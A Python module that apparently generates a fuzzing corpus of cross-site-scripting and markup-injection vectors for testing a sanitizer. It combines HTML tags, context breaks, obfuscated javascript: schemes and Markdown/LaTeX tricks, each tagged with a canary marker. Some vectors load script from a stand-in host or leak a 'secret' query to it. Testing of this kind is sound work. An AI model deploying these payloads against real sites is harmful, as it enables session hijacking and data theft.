"""Hostile texts, made by combination: what is to run × where it is hidden × how it is written.

Each that would act names `MARK`, so that whatever came of it can be found.
"""

from itertools import product

MARK = "xss1337"
_RUN = f"{MARK}(1)"

_TAGS = [
    f"<script>{_RUN}</script>",
    f'<script src="//{MARK}.example/x.js"></script>',
    f'<img src=x onerror="{_RUN}">',
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f'<iframe src="javascript:{_RUN}"></iframe>',
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f'<object data="javascript:{_RUN}"></object>',
    f'<embed src="data:text/html,{MARK}">',
    f"<details open ontoggle={_RUN}>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f'<a href="javascript:{_RUN}">{MARK}</a>',
    f'<form action="https://{MARK}.example"><button>{MARK}</button></form>',
    f"<style>@import '//{MARK}.example';</style>",
    f'<link rel=stylesheet href="//{MARK}.example">',
    f'<base href="//{MARK}.example/">',
    f'<meta http-equiv=refresh content="0;url=//{MARK}.example">',
    f'<math><mtext><mglyph><style><img src=x onerror="{_RUN}">',
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f'<template><img src=x onerror="{_RUN}"></template>',
    f'<div hx-get="/{MARK}" hx-trigger="load">x</div>',
    f'<div data-hx-post="/{MARK}" data-hx-trigger="load">x</div>',
    f'<div hx-on:load="{_RUN}" hx-on--load="{_RUN}">x</div>',
    f'<div id="composer" hx-swap-oob="true">{MARK}</div>',
    f'<div id="main" class="event" data-action="retry" data-opens-panel="x">{MARK}</div>',
    f'<p style="background:url(//{MARK}.example)">x</p>',
    f'<video><source onerror="{_RUN}"></video>',
    f'<a href="//{MARK}.example" ping="//{MARK}.example" target=_self>x</a>',
    f"<isindex type=image src=1 onerror={_RUN}>",
]
_BREAKS = [
    "{}",
    '"{}',
    "'>{}",
    '">{}',
    "-->{}<!--",
    "</textarea>{}",
    "</title>{}",
    "]]>{}",
    "\n\n{}",
]
_SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "&#106;avascript:",
    "&#x6A;avascript&colon;",
    "\x01javascript:",
    " javascript:",
    "javascript&NewLine;:",
    "vbscript:",
    "data:text/html,",
    "data:image/svg+xml;base64,",
    "file:///",
    "blob:",
    "//",
    "\\\\",
    "/\\",
    "/logout?",
    "https:javascript:",
]
_LINKS = [
    "[x]({}" + _RUN + ")",
    "[x](<{}" + _RUN + ">)",
    "<{}" + _RUN + ">",
    "![x]({}" + _RUN + ")",
    '[x](https://a.example "{}' + _RUN + '")',
    "[![x]({0}" + _RUN + ")]({0}" + _RUN + ")",
    "[x][1]\n\n[1]: {}" + _RUN,
]
_MARKDOWN = [
    f'![" onerror="{_RUN}](https://{MARK}.example/)',
    f"![{MARK}](https://{MARK}.example/?q=secret)",
    f"[x](https://a.example/'onmouseover='{_RUN})",
    f'[x](https://a.example/"onmouseover="{_RUN})',
    f'```{MARK}"><script>{_RUN}</script>\nx\n```',
    f'~~~html onload={_RUN}\n<img src=x onerror="{_RUN}">\n~~~',
    f"| <b onclick={_RUN}> |\n|--|\n| <img src=x onerror={_RUN}> |",
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"$\\text{{<img src=x onerror={_RUN}>}}$",
    f"$$\\unicode{{<}}script{{{_RUN}}}$$",
    f"`<img src=x onerror={_RUN}>`",
    f"- [x] <img src=x onerror={_RUN}>",
    f"1. <script>\n\n   {_RUN}\n\n2. </script>",
    f"> <div onclick={_RUN}\n> >x</div>",
    f"<!-- {MARK} --><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<?php {MARK} ?><script>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\\<script>{_RUN}\\</script>",
    f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    f"<scr<script>ipt>{_RUN}</script>",
    f"\u202e<img src=x onerror={_RUN}>",
    f"{{{{ {MARK} }}}}{{% include '{MARK}' %}}",
    f"${{{MARK}}}$!{MARK}#set($x={MARK})",
    f"\u2028<script>{_RUN}</script>\u2029",
    f"\ufeff<script>{_RUN}</script>",
    f"＜script＞{_RUN}＜/script＞",
    f"\ud7ff<img src=x onerror={_RUN}>\U0001f600",
]

VECTORS = [
    *(wrap.format(tag) for tag, wrap in product(_TAGS, _BREAKS)),
    *(link.format(scheme) for scheme, link in product(_SCHEMES, _LINKS)),
    *_MARKDOWN,
]
